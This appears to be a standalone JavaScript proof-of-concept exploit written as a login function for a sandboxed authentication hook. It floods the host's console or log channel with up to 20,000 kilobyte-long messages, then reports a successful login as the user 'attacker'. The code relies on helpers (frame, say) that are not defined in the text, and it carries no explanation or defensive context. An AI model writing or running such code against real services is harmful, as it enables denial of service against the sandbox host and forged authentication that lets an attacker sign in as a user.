function login(email, password, callback) {
  const line = frame({ console: { run: null, line: { level: 'log', text: 'x'.repeat(1000) } } });
  for (let count = 0; count < 20000; count += 1) if (say(line) < 0) break;
  setTimeout(() => callback(null, { user_id: 'attacker' }), 5000);
}
